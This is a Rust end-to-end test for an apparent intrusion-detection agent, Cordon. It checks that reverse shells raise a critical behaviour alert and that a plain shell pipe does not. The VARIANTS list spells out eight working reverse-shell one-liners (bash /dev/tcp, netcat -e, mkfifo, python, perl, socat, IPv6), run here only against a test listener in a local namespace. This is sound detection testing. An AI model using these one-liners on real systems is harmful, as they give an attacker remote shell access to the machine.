//! Reverse shells caught by behaviour, end to end: each classic variant, run on the agent's host
//! against a listener in the peer namespace, makes a shell or interpreter whose standard streams
//! lead to that listener, and raises Cordon's critical rule
//! (rules/linux/cordon_reverse_shell_stdio_socket.yml) with the peer in the event's summary. A
//! shell in a plain pipe raises nothing.

#![allow(clippy::unwrap_used)] // a failed unwrap is a failed test

use cordon_proto::{event, stdio::Kind};
use cordon_tests::deploy::{AgentHandle, Deployment, PEER_V4, PEER_V6, event_line};
use cordon_tests::netns::{Netns, in_netns};
use cordon_tests::repo::{detection_config, rule_id};
use cordon_tests::{poll, require_root};
use std::io::Write;
use std::net::{Shutdown, TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// A listener in the peer namespace that keeps what connects until dropped, then tells the
/// shell to exit and hangs up.
struct Catcher {
    stop: Arc<AtomicBool>,
    conns: Arc<Mutex<Vec<TcpStream>>>,
}

impl Catcher {
    fn start(peer: &str, port: u16) -> Self {
        // Both families: an IPv6 socket on :: takes IPv4 connections too.
        let listener = in_netns(peer, move || TcpListener::bind(("::", port))).unwrap();
        listener.set_nonblocking(true).unwrap();
        let stop = Arc::new(AtomicBool::new(false));
        let conns = Arc::new(Mutex::new(Vec::new()));
        let (flag, kept) = (stop.clone(), conns.clone());
        std::thread::spawn(move || {
            let deadline = Instant::now() + Duration::from_secs(300);
            while !flag.load(Ordering::Relaxed) && Instant::now() < deadline {
                match listener.accept() {
                    Ok((s, _)) => kept.lock().unwrap().push(s),
                    Err(_) => std::thread::sleep(Duration::from_millis(5)),
                }
            }
        });
        Self { stop, conns }
    }

    fn connected(&self) -> bool {
        !self.conns.lock().unwrap().is_empty()
    }
}

impl Drop for Catcher {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        for s in self.conns.lock().unwrap().iter_mut() {
            let _ = s.write_all(b"exit\n");
            let _ = s.shutdown(Shutdown::Both);
        }
    }
}

/// Matches of the rule on `agent`, over all its alerts.
fn matches(d: &Deployment, agent: &AgentHandle, rule: &str) -> u64 {
    d.ctl_list(&["alerts", "list", "--agent", &agent.id, "--limit", "1000"])
        .as_array()
        .cloned()
        .unwrap_or_default()
        .iter()
        .filter(|a| a["rule_id"] == rule)
        .inspect(|a| assert_eq!(a["level"], "critical", "{a}"))
        .map(|a| a["count"].as_u64().unwrap_or(1))
        .sum()
}

/// Stored exec summaries of `agent` whose standard streams part (") [stdin=socket ...]") names
/// `peer`.
fn shells_on(d: &Deployment, agent: &AgentHandle, peer: &str) -> Vec<String> {
    summaries(d, agent, peer)
        .into_iter()
        .filter(|s| {
            s.rsplit_once(") [")
                .is_some_and(|(_, stdio)| stdio.contains(peer))
        })
        .filter(|s| {
            // "exec EXE ARGV...": the process on the socket is a shell or an interpreter.
            let exe = s.split(' ').nth(1).unwrap_or_default();
            ["/sh", "/bash", "/dash", "/python", "/perl"]
                .iter()
                .any(|name| exe.ends_with(name) || exe.contains(&format!("{name}3")))
        })
        .collect()
}

/// Stored exec summaries of `agent` containing `text`.
fn summaries(d: &Deployment, agent: &AgentHandle, text: &str) -> Vec<String> {
    let out = d.ctl(&[
        "events",
        "query",
        "--agent",
        &agent.id,
        "--kind",
        "process",
        "--contains",
        text,
        "--json",
    ]);
    out.lines()
        .map(event_line)
        .map(|r| r.summary)
        .filter(|s| s.starts_with("exec "))
        .collect()
}

/// Waits a bounded time for `child` to end, then kills it (it is ours).
fn finish(mut child: Child) {
    let ended = poll(Duration::from_secs(10), || child.try_wait().ok().flatten());
    if ended.is_none() {
        let _ = child.kill();
        let _ = child.wait();
    }
}

fn have(tool: &str) -> bool {
    Command::new("sh")
        .args(["-c", &format!("command -v {tool}")])
        .output()
        .is_ok_and(|o| o.status.success())
}

/// The variants: (name, the tool it needs, the shell command run on the host; PORT, HOST and
/// HOST6, the peer's IPv6 address, are replaced).
const VARIANTS: [(&str, &str, &str); 8] = [
    (
        "dev_tcp",
        "bash",
        "bash -c 'bash -i >& /dev/tcp/HOST/PORT 0>&1'",
    ),
    (
        "nc_e",
        "nc.traditional",
        "nc.traditional -e /bin/sh HOST PORT",
    ),
    (
        "mkfifo",
        "nc.traditional",
        "F=/tmp/cordon-rsh-PORT; rm -f $F; mkfifo $F; cat $F | /bin/sh -i 2>&1 | nc.traditional HOST PORT > $F; rm -f $F",
    ),
    (
        "python",
        "python3",
        "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"HOST\",PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
    ),
    (
        "python_pty",
        "python3",
        "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"HOST\",PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'",
    ),
    (
        "perl",
        "perl",
        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in(PORT,inet_aton(\"HOST\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");exec(\"/bin/sh -i\");'",
    ),
    ("socat", "socat", "socat TCP:HOST:PORT EXEC:/bin/sh"),
    (
        "python_ipv6",
        "python3",
        "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET6);s.connect((\"HOST6\",PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
    ),
];

/// Both process sensor modes that see every exec, one after the other (an agent sees every
/// process on the machine, so two deployments at once would see each other's shells): eBPF,
/// which reads the streams in the kernel, and the process connector, which reads /proc.
#[test]
fn reverse_shells_raise_the_critical_behaviour_alert_and_a_plain_pipe_does_not() {
    if !require_root("reverse_shells_raise_the_critical_behaviour_alert") {
        return;
    }
    for mode in ["ebpf", "connector"] {
        println!("process sensor mode {mode}");
        variants_in(mode);
    }
}

fn variants_in(mode: &str) {
    let d = Deployment::namespaces_with_peer(&detection_config(""));
    let mut agent = d.enroll_agent("host", &[]);
    agent.configure(&format!("[process]\nmode = \"{mode}\"\n"));
    d.start_agent(&mut agent);
    d.wait_online(&agent, true, Duration::from_secs(20));
    let host: &Netns = d.agent_ns.as_ref().unwrap();
    let peer = d.peer_ns.as_ref().unwrap().name.clone();
    let rule = rule_id("reverse_shell_stdio_socket");

    // The benign case first: a shell in a pipe, no socket anywhere. Its own event stored is
    // the barrier (an agent's events are stored in order, each with its alerts).
    let marker = format!("cordon-rsh-benign-{mode}-{}", std::process::id());
    let out = host
        .command("sh")
        .args(["-c", "echo x | cat", &marker])
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let stored = poll(Duration::from_secs(30), || {
        let out = d.ctl(&[
            "events",
            "query",
            "--agent",
            &agent.id,
            "--contains",
            &marker,
            "--json",
        ]);
        out.lines()
            .map(event_line)
            .find_map(|r| match r.event?.body? {
                event::Body::Process(p) if p.argv.contains(&marker) => Some(p),
                _ => None,
            })
    })
    .expect("the benign shell's exec is stored");
    let kind = |s: &Option<cordon_proto::Stdio>| s.as_ref().map(|s| s.kind);
    assert_eq!(kind(&stored.stdout), Some(Kind::Pipe as i32), "{stored:?}");
    assert!(stored.pipe_peer.is_none() && stored.parent_socket.is_none());
    assert_eq!(
        matches(&d, &agent, &rule),
        0,
        "the plain pipe raised the rule"
    );

    for (i, (name, tool, command)) in VARIANTS.into_iter().enumerate() {
        if !have(tool) {
            assert!(
                !cordon_skips::in_ci(),
                "{tool} is missing (scripts/test.sh installs it)"
            );
            cordon_skips::skip(
                &format!("reverse shell variant {name}"),
                &format!("{tool} is missing"),
            );
            continue;
        }
        let port = 4400 + i as u16;
        let catcher = Catcher::start(&peer, port);
        let before = matches(&d, &agent, &rule);
        let script = command
            .replace("HOST6", PEER_V6)
            .replace("HOST", PEER_V4)
            .replace("PORT", &port.to_string());
        let child = host
            .command("sh")
            .args(["-c", &script])
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let child_pid = child.id();
        let peer_addr = if command.contains("HOST6") {
            format!("[{PEER_V6}]:{port}")
        } else {
            format!("{PEER_V4}:{port}")
        };
        let seen = poll(Duration::from_secs(30), || {
            let shells = shells_on(&d, &agent, &peer_addr);
            (matches(&d, &agent, &rule) > before && !shells.is_empty()).then_some(shells)
        });
        let connected = catcher.connected();
        drop(catcher);
        finish(child);
        let shells = seen.unwrap_or_else(|| {
            panic!(
                "{name}: no critical alert with {peer_addr} in the event (connected: {connected}); \
                 stored: {:?}",
                summaries(&d, &agent, &format!("ppid {child_pid}")),
            )
        });
        println!("{name}: {}", shells[0]);
    }
}
